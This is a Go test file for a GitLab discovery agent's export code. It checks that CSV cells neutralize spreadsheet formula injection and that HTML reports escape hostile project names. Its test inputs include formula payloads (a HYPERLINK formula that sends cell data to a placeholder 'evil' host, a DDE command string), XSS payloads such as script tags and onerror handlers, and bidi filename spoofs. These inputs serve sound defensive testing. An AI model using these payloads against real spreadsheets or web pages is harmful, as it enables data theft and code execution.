package export

import (
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/gl2gh/discovery-agent/internal/inventory"
)

func TestNeutralize(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"shop", "shop"},
		{"=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"\n=1", "'\n=1"},
		{"a=b", "a=b"},           // only the first character triggers
		{"'=x", "'=x"},           // already text
		{"\x00=cmd", "'=cmd"},    // dropped characters do not hide a trigger
		{"\u202e=cmd", "'=cmd"},  // nor do bidi controls
		{"a\x1b[31mb", "a[31mb"}, // ESC
		{"a\x7fb\u0085c", "abc"}, // DEL, C1
		{"rev\u202eesrever\u202c \u2066x\u2069 \u200e\u200f\u061c", "revesrever x "},
		{"line\nbreak\ttab\rcr", "line\nbreak\ttab\rcr"}, // kept inside a cell: CSV quotes them
		{"été 東京 🚀", "été 東京 🚀"},
		{"bad\xffutf8", "bad\ufffdutf8"},
	}
	for _, tt := range tests {
		if got := neutralize(tt.in); got != tt.want {
			t.Errorf("neutralize(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestCSVWriterMatchesEncodingCSV: for cells without a trigger after a separator, the
// writer writes what encoding/csv writes, so exports did not change byte for byte.
func TestCSVWriterMatchesEncodingCSV(t *testing.T) {
	records := [][]string{
		{"1", "acme/shop", "", "a, b", `say "hi"`, "multi\nline", "cr\rlf", " lead", `\.`, "needs;rules", "x\ty"},
		{""},
		{"", ""},
		{"é", "-5", "2024-01-02T01:04:05Z"},
	}
	var want, got bytes.Buffer
	cw := csv.NewWriter(&want)
	if err := cw.WriteAll(records); err != nil {
		t.Fatal(err)
	}
	w := newCSVWriter(&got)
	for _, r := range records {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if got.String() != want.String() {
		t.Errorf("csvWriter wrote\n%q\nencoding/csv\n%q", got.String(), want.String())
	}
}

// TestCSVWriterQuotesFormulaAfterSeparator: a spreadsheet splitting on ';' or TAB
// would start a cell at the formula; quoted, the cell stays whole.
func TestCSVWriterQuotesFormulaAfterSeparator(t *testing.T) {
	for _, cell := range []string{"a;=cmd", "a;+1", "a;-1", "a;@x", "a\t=cmd", "a;\t=1"} {
		var b bytes.Buffer
		if err := newCSVWriter(&b).Write([]string{"1", cell}); err != nil {
			t.Fatal(err)
		}
		if want := `1,"` + cell + "\"\n"; b.String() != want {
			t.Errorf("cell %q written %q, want %q", cell, b.String(), want)
		}
	}
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestCSVWriterReportsWriteError(t *testing.T) {
	if err := newCSVWriter(failWriter{}).Write([]string{"a"}); err == nil {
		t.Error("Write to a failing writer succeeded")
	}
}

// TestCSVHostileCells writes hostile names through Write: text cells come out
// neutralized, numeric cells (a negative size) stay numbers, in both CSV files.
func TestCSVHostileCells(t *testing.T) {
	p := project(1, "acme/=cmd|' /C calc'!A0", 10)
	p.Name = "=HYPERLINK(\"http://evil/?\"&A1)"
	p.DefaultBranch = "@main"
	p.WebURL = "\u202ehttps://gitlab.example.com/x"
	p.GroupFullPath = "\x00-acme"
	p.Statistics.RepositorySize = -5 // absurd, but a number
	p.Errors = []inventory.ScanError{{Step: "hooks", Status: 500, Message: "x;=1+1\x1b"}}
	src := newSource("r1", p)
	src.groups["r1"][0].FullPath = "+acme"

	dir, _ := writeDir(t, src, testRun("r1"), nil)
	rows := readCSV(t, filepath.Join(dir, "runs/r1/projects.csv"))
	want := map[string]string{
		"path_with_namespace":   "acme/=cmd|' /C calc'!A0", // the formula is not at the start
		"name":                  "'=HYPERLINK(\"http://evil/?\"&A1)",
		"default_branch":        "'@main",
		"web_url":               "https://gitlab.example.com/x",
		"group_full_path":       "'-acme",
		"repository_size_bytes": "-5",
		"errors":                "hooks:500:x;=1+1",
	}
	for k, v := range want {
		if rows[0][k] != v {
			t.Errorf("%s = %q, want %q", k, rows[0][k], v)
		}
	}
	raw := string(readFile(t, filepath.Join(dir, "runs/r1/projects.csv")))
	if !strings.Contains(raw, `,"hooks:500:x;=1+1",`) {
		t.Errorf("errors cell with a formula after ';' is not quoted:\n%s", raw)
	}
	groups, err := csv.NewReader(strings.NewReader(string(readFile(t, filepath.Join(dir, "runs/r1/groups.csv"))))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := groups[1][1]; got != "'+acme" {
		t.Errorf("groups.csv full_path = %q, want %q", got, "'+acme")
	}
}

// TestDocsNeutralization: docs/EXPORTS.md names every formula trigger and the prefix.
func TestDocsNeutralization(t *testing.T) {
	b, err := os.ReadFile("../../docs/EXPORTS.md")
	if err != nil {
		t.Fatal(err)
	}
	_, sec, ok := strings.Cut(string(b), "\n## Safe to open\n")
	if !ok {
		t.Fatal(`docs/EXPORTS.md has no "## Safe to open" section`)
	}
	sec, _, _ = strings.Cut(sec, "\n## ")
	spelled := map[byte]string{'=': "`=`", '+': "`+`", '-': "`-`", '@': "`@`", '\t': "TAB", '\r': "CR", '\n': "LF"}
	for i := range len(formulaTriggers) {
		c := formulaTriggers[i]
		s, ok := spelled[c]
		if !ok {
			t.Errorf("trigger %q has no spelling in this test: add it and document it", c)
			continue
		}
		if !strings.Contains(sec, s) {
			t.Errorf("the Safe to open section does not name the trigger %s", s)
		}
	}
	if !strings.Contains(sec, "`"+formulaPrefix+"`") {
		t.Errorf("the Safe to open section does not name the prefix `%s`", formulaPrefix)
	}
}

func FuzzCSVCell(f *testing.F) {
	for _, s := range []string{"", "shop", "=1+1", "-5", "@x", "\t=1", "\r\n=1", "a;=b", "a\t-b",
		"\x00=cmd", "\u202e=cmd", `"=1+2";=1+2`, "=1+2'\" ;,=1+2", "\xff", " lead", `\.`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		cell := neutralize(s)
		var b bytes.Buffer
		if err := newCSVWriter(&b).Write([]string{cell, "-1", cell}); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatalf("cell %q: the CSV does not read back: %v", cell, err)
		}
		if len(recs) != 1 || len(recs[0]) != 3 {
			t.Fatalf("cell %q: read back %q, want one record of 3 fields", cell, recs)
		}
		if recs[0][1] != "-1" {
			t.Errorf("numeric cell read back as %q", recs[0][1])
		}
		got := recs[0][0]
		// encoding/csv reads a quoted CRLF as LF.
		if want := strings.ReplaceAll(cell, "\r\n", "\n"); got != want {
			t.Errorf("cell %q read back as %q", want, got)
		}
		if got != "" && strings.IndexByte(formulaTriggers, got[0]) >= 0 {
			t.Errorf("cell %q starts with a formula trigger", got)
		}
		if !utf8.ValidString(got) {
			t.Errorf("cell %q is not UTF-8", got)
		}
		for _, r := range got {
			if unsafeRune(r) {
				t.Errorf("cell %q keeps %U", got, r)
			}
		}
	})
}

// renderReport renders the report of one project and its group, both named name.
func renderReport(t *testing.T, name string) string {
	t.Helper()
	p := project(1, "acme/"+name, 41<<30)
	p.Name = name
	p.Readiness = nil
	p.Errors = nil
	normalize(&p)
	w := &writer{agg: newAggregate()}
	w.agg.addGroup(inventory.Group{ID: 10, FullPath: name})
	w.agg.addProject(&p)
	run := testRun("r1")
	run.RootGroups = []string{name}
	w.summary = w.agg.summary(run, 3, t0)
	var b bytes.Buffer
	if err := writeReport(&b, w.report(time.Time{})); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// checkReport fails when the page has live markup from a name, a control or bidi
// character, or does not parse.
func checkReport(t *testing.T, name, page string) {
	t.Helper()
	lower := strings.ToLower(page)
	for _, bad := range []string{"<script", "<img", "<iframe"} {
		if strings.Contains(lower, bad) {
			t.Errorf("name %q: report contains %q", name, bad)
		}
	}
	for _, r := range page {
		if unsafeRune(r) {
			t.Fatalf("name %q: report keeps %U", name, r)
		}
	}
	d := xml.NewDecoder(strings.NewReader(page))
	d.Strict = false
	d.AutoClose = xml.HTMLAutoClose
	d.Entity = xml.HTMLEntity
	for {
		tok, err := d.Token()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("name %q: report does not parse: %v", name, err)
		}
		if el, ok := tok.(xml.StartElement); ok {
			for _, a := range el.Attr {
				if strings.HasPrefix(strings.ToLower(a.Name.Local), "on") {
					t.Errorf("name %q: element %s has a handler %s", name, el.Name.Local, a.Name.Local)
				}
			}
			if n := strings.ToLower(el.Name.Local); n == "script" || n == "img" || n == "iframe" {
				t.Errorf("name %q: report has a <%s> element", name, n)
			}
		}
	}
}

// TestReportHostileNames: names that are markup, bidi tricks or control characters
// show as inert text.
func TestReportHostileNames(t *testing.T) {
	tests := []struct{ name, shown string }{
		{"shop", "shop"},
		{"<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"},
		{`"><img src=x onerror=alert(1)>`, "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;"},
		{"'><svg onload=alert(1)>", "&#39;&gt;&lt;svg onload=alert(1)&gt;"},
		{"</style><script>x</script>", "&lt;/style&gt;&lt;script&gt;x&lt;/script&gt;"},
		{"invoice\u202egpj.exe", "invoicegpj.exe"},
		{"nul\x00byte", "nul\ufffdbyte"}, // html/template replaces NUL
		{"esc\x1b[2Jape", "esc[2Jape"},
		{"\u2066iso\u2069 late\u200f", "iso late"},
	}
	for _, tt := range tests {
		page := renderReport(t, tt.name)
		checkReport(t, tt.name, page)
		if !strings.Contains(page, ">acme/"+tt.shown+"<") {
			t.Errorf("name %q: report does not show the project as %q", tt.name, "acme/"+tt.shown)
		}
	}
}

func FuzzHTMLReport(f *testing.F) {
	for _, s := range []string{"shop", "<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`,
		"\u202eevil", "a\x00b", "</title><script>", "&lt;script&gt;", "javascript:alert(1)"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, name string) {
		checkReport(t, name, renderReport(t, name))
	})
}
